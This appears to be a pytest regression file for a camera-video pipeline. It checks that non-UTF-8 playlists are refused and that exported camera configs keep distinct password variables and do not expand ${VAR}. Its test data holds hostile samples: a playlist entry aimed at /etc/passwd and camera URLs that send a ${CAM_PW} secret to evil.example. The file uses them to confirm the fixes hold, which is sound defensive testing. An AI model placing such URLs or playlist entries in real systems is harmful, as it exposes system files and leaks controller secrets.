"""Admission and export where they let a user through or mixed cameras up: a playlist that is not clean UTF-8
taken for a video, two cameras whose ids differ in punctuation sharing one password variable, and "${...}"
in a run-time camera's URL read from the controller's environment when the export is loaded."""

from __future__ import annotations

import pytest

# --- pipeline/admission.py

PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:1,\n/etc/passwd.ts\n#EXT-X-ENDLIST\n"


@pytest.mark.parametrize("content", [
    ("#EXTM3U\n# caméra d'entrée\n" + PLAYLIST[8:]).encode("latin-1"),  # not UTF-8, still a playlist to FFmpeg
    (PLAYLIST + "#" + "x" * (511 - len(PLAYLIST) - 2) + "\n").encode() + "é\n".encode(),  # 'é' cut at byte 512
], ids=["latin-1", "utf8-cut-at-512"])
def test_a_playlist_that_is_not_clean_utf8_is_still_refused_as_text(tmp_path, content):
    from pipeline.admission import Admission, CommandRejected
    from pipeline.config import ApiConfig
    from workers.settings import CameraConfig

    path = tmp_path / "list.m3u8"
    path.write_bytes(content)
    if len(content) > 512:
        assert content[511] == 0xC3  # the 2-byte 'é' straddles the 512-byte head the check reads
    admission = Admission(ApiConfig(media_roots=[str(tmp_path)]), {"people": ["person"]})
    with pytest.raises(CommandRejected, match="is a text file"):
        admission.check(CameraConfig(id="c", url=str(path)))


def test_raw_yuv4mpeg_video_is_not_taken_for_text(tmp_path):
    from pipeline.admission import Admission
    from pipeline.config import ApiConfig
    from workers.settings import CameraConfig

    path = tmp_path / "clip.y4m"
    path.write_bytes(b"YUV4MPEG2 W64 H64 F5:1 Ip A1:1 C420jpeg\nFRAME\n" + bytes([0x90, 0x20] * 3000))
    admission = Admission(ApiConfig(media_roots=[str(tmp_path)]), {"people": ["person"]})
    assert admission.check(CameraConfig(id="c", url=str(path))).url == str(path)


# --- pipeline/camera_export.py

def _reload(monkeypatch, tmp_path, cameras, needed, values):
    import yaml as _yaml

    from pipeline.camera_export import export_yaml
    from pipeline.config import parse_config

    for name, value in values.items():
        monkeypatch.setenv(name, value)
    path = tmp_path / "exported.yaml"
    path.write_text(export_yaml(cameras, needed))
    return parse_config(_yaml.safe_load(path.read_text())).cameras


def test_cameras_whose_ids_differ_in_punctuation_get_their_own_variables(monkeypatch, tmp_path):
    """'cam-1' and 'cam.1' both made HV_CAM_1_SECRET: after loading the export both used one password."""
    from pipeline.camera_export import export_cameras
    from workers.settings import CameraConfig

    cams = [CameraConfig(id="cam-1", url="rtsp://admin:pw-A@10.0.0.1/live"),
            CameraConfig(id="cam.1", url="rtsp://admin:pw-B@10.0.0.2/live")]
    cameras, needed = export_cameras(cams, {})
    assert len(set(needed)) == 2
    values = dict(zip(needed, ["admin:pw-A", "admin:pw-B"]))
    assert [c.url for c in _reload(monkeypatch, tmp_path, cameras, needed, values)] == [c.url for c in cams]


def test_a_run_time_url_holding_dollar_braces_does_not_read_the_environment_when_reloaded(monkeypatch, tmp_path):
    """A camera added through the API gets no ${VAR} interpolation, so "${CAM_PW}" in its URL is text. The
    export wrote it as it was, and loading the export then put the controller's variable into the URL (a
    remote user could read the environment through an export and a restart)."""
    from pipeline.camera_export import export_cameras
    from workers.settings import CameraConfig

    monkeypatch.setenv("CAM_PW", "controller-secret")
    cams = [CameraConfig(id="tok", url="https://evil.example/x?token=${CAM_PW}"),
            CameraConfig(id="path", url="rtsp://evil.example/${CAM_PW}/live")]
    cameras, needed = export_cameras(cams, {})
    assert needed == ["HV_TOK_SECRET"]
    reloaded = _reload(monkeypatch, tmp_path, cameras, needed, {"HV_TOK_SECRET": "${CAM_PW}"})
    assert reloaded[0].url == cams[0].url  # the query value round-trips exactly, through its variable
    assert "controller-secret" not in reloaded[1].url
    assert reloaded[1].url == "rtsp://evil.example/%24{CAM_PW}/live"  # the same URL, '$' percent-encoded
